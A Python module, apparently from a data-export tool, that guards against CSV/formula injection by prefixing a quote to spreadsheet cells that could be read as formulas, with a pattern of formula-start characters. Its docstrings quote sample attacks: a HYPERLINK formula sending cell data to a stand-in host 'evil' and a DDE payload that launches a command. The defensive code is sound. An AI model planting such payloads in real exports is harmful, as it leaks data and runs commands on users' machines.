"""Text that is safe to open in a spreadsheet: no cell may start a formula.

A spreadsheet opening a CSV file (or a user editing an XLSX cell) reads a cell that starts with
``=`` as a formula, and some read ``+``, ``-`` and ``@`` the same way. A hostile customer id,
category or free text such as ``=HYPERLINK("http://evil/?"&A1)`` would then run on the
marketing analyst's machine. Following the OWASP guidance on CSV injection (and ASVS 5.0
requirement 1.2.10), every text that starts with such a character gets a single quote
``'`` in front of it. Numbers are never touched: only text cells are neutralised.

Which characters count (:data:`FORMULA_STARTS`):

- ``=``, ``+``, ``-``, ``@``, tab and carriage return: the OWASP list;
- NUL (``\\x00``): ASVS lists it, and LibreOffice drops a leading NUL on import, so
  ``"\\x00=1+1"`` opens as the formula ``=1+1`` (measured with LibreOffice 7.4);
- the full-width forms ``＝ ＋ － ＠`` (U+FF1D, U+FF0B, U+FF0D, U+FF20), the small forms
  ``﹦ ﹢ ﹣ ﹫`` (U+FE66, U+FE62, U+FE63, U+FE6B), and the minus sign ``−`` (U+2212).
  LibreOffice 7.4 opens all of them as plain text, but East Asian input methods and some
  number parsers map them to their ASCII twins; one visible quote is a small price.

A formula character after leading whitespace counts too: LibreOffice's CSV import has a "Trim
spaces" option, and with it ``" =1+1"`` opens as a formula (measured). The whitespace skipped
is :data:`LEADING_IGNORED`: ASCII whitespace, NUL, the no-break space and the ideographic
space. Other characters are left alone: ``"a=b"``, ``"'=x"`` and ``"5-3"`` stay as they are.

The quote marks the cell as text; spreadsheets that open the CSV show it (LibreOffice shows
``'=1+1``), which is the intent: the reader sees the text as written, never its result.
:func:`neutralise` is idempotent, since a neutralised text starts with ``'``.
"""

from __future__ import annotations

import re
from typing import Any, Final

import numpy as np
import pandas as pd

FORMULA_STARTS: Final[frozenset[str]] = frozenset(
    "=+-@\t\r\x00"  # OWASP, plus NUL (ASVS 1.2.10)
    "\uff1d\uff0b\uff0d\uff20"  # full-width ＝ ＋ － ＠
    "\ufe66\ufe62\ufe63\ufe6b"  # small ﹦ ﹢ ﹣ ﹫
    "\u2212"  # minus sign −
)
"""Characters that make a spreadsheet read a cell as a formula when they come first."""

LEADING_IGNORED: Final[frozenset[str]] = frozenset(" \t\n\r\x0b\x0c\x00\u00a0\u3000")
"""Whitespace a spreadsheet may strip before it looks for a formula character."""

QUOTE: Final[str] = "'"
"""The prefix that makes a cell plain text."""


def _character_class(chars: frozenset[str]) -> str:
    """A regex character class both Python's ``re`` and RE2 (pyarrow) read the same way."""
    parts = []
    for char in sorted(chars):
        if ord(char) < 0x20 or ord(char) == 0x7F:
            parts.append(f"\\x{ord(char):02x}")
        elif char in "-]\\^[":
            parts.append("\\" + char)
        else:
            parts.append(char)
    return "[" + "".join(parts) + "]"


_PATTERN_TEXT: Final[str] = (
    f"^{_character_class(LEADING_IGNORED)}*{_character_class(FORMULA_STARTS)}"
)
_PATTERN: Final[re.Pattern[str]] = re.compile(_PATTERN_TEXT)


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula (see the module's notes).

    Examples
    --------
    >>> is_formula_like("=1+1"), is_formula_like("  @SUM(A1)"), is_formula_like("a=b")
    (True, True, False)
    """
    return _PATTERN.match(text) is not None


def neutralise(text: str) -> str:
    """Prefix ``'`` to a text a spreadsheet could read as a formula; return others unchanged.

    Parameters
    ----------
    text : str
        One cell's text.

    Returns
    -------
    str
        ``"'" + text`` when ``text`` starts with a character of :data:`FORMULA_STARTS`,
        possibly after whitespace of :data:`LEADING_IGNORED`; otherwise ``text`` itself.
        Applying it twice gives the same result as applying it once.

    Raises
    ------
    TypeError
        If ``text`` is not a ``str`` (numbers are never neutralised).

    Examples
    --------
    >>> neutralise('=HYPERLINK("http://x")')
    '\\'=HYPERLINK("http://x")'
    >>> neutralise("-20% spend"), neutralise("＝1+1"), neutralise(" +1")
    ("'-20% spend", "'＝1+1", "' +1")
    >>> neutralise("00123"), neutralise("a-b"), neutralise(neutralise("=1"))
    ('00123', 'a-b', "'=1")
    """
    if not isinstance(text, str):
        raise TypeError(f"neutralise() takes a str, got {type(text).__name__} instead.")
    return QUOTE + text if _PATTERN.match(text) else text


def _is_text_dtype(dtype: Any) -> bool:
    return isinstance(dtype, pd.StringDtype | pd.CategoricalDtype) or dtype == np.dtype(object)


def _neutralise_values(values: pd.Series) -> pd.Series:
    """Neutralise the ``str`` elements of a string or object Series (others stay as they are)."""
    if isinstance(values.dtype, pd.StringDtype):
        mask = values.str.match(_PATTERN_TEXT, na=False).to_numpy(dtype=bool)
    else:  # object: any mix of types, where pandas' .str refuses some mixes
        mask = np.fromiter(
            (isinstance(v, str) and _PATTERN.match(v) is not None for v in values.tolist()),
            dtype=bool,
            count=len(values),
        )
    if not mask.any():
        return values
    out = values.copy()
    out[mask] = [QUOTE + text for text in values[mask].tolist()]
    return out


def _neutralise_categorical(values: pd.Series) -> pd.Series:
    categories = values.cat.categories
    if not _is_text_dtype(categories.dtype):
        return values
    new = pd.Index(_neutralise_values(pd.Series(categories, dtype=categories.dtype)))
    if new.equals(categories):
        return values
    if new.is_unique:
        return values.cat.rename_categories(new)
    # "=x" and "'=x" both became "'=x": merge them into one category.
    merged = pd.Index(new.unique())
    codes = np.where(values.cat.codes.to_numpy() < 0, -1, merged.get_indexer(new)[values.cat.codes])
    return pd.Series(
        pd.Categorical.from_codes(codes, categories=merged, ordered=values.cat.ordered),
        index=values.index,
        name=values.name,
    )


def neutralise_series(values: pd.Series) -> pd.Series:
    """:func:`neutralise` every text element of a Series; non-text Series come back unchanged.

    String, object and categorical Series are text: in an object Series only the ``str``
    elements change, and a categorical Series keeps its dtype (its categories are
    neutralised). Numeric, boolean and datetime Series are returned as they are.

    Examples
    --------
    >>> neutralise_series(pd.Series(["=1", "ok", None])).tolist()
    ["'=1", 'ok', nan]
    >>> neutralise_series(pd.Series([-1.5, 2.0])).tolist()
    [-1.5, 2.0]
    """
    if isinstance(values.dtype, pd.CategoricalDtype):
        return _neutralise_categorical(values)
    if _is_text_dtype(values.dtype):
        return _neutralise_values(values)
    return values


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and text column name neutralised.

    Parameters
    ----------
    frame : DataFrame
        Any table. Its index is left alone (the writers never write it).

    Returns
    -------
    DataFrame
        The same shape and dtypes. String, object and categorical columns go through
        :func:`neutralise_series`; numeric, boolean, datetime and timedelta columns are the
        same objects, untouched, so a negative number stays a number. Column names that are
        ``str`` are neutralised too.

    Notes
    -----
    Vectorised: one regular-expression match per string column (pyarrow's RE2), one per
    category rather than per row for categorical columns; object columns, which may mix
    types, are matched value by value. A million rows of a string column take a fraction
    of a second.

    Examples
    --------
    >>> f = pd.DataFrame({"id": ["00123", "=cmd|' /C calc'!A0"], "-gain": [-3.5, 2.0]})
    >>> out = neutralise_frame(f)
    >>> out.columns.tolist(), out["id"].tolist(), out["'-gain"].tolist()
    (['id', "'-gain"], ['00123', "'=cmd|' /C calc'!A0"], [-3.5, 2.0])
    """
    out = frame.copy(deep=False)
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        neutralised = neutralise_series(column)
        if neutralised is not column:
            out.isetitem(position, neutralised)  # type: ignore[arg-type]
    names = [neutralise(name) if isinstance(name, str) else name for name in frame.columns]
    if names != list(frame.columns):
        out.columns = pd.Index(names)
    return out
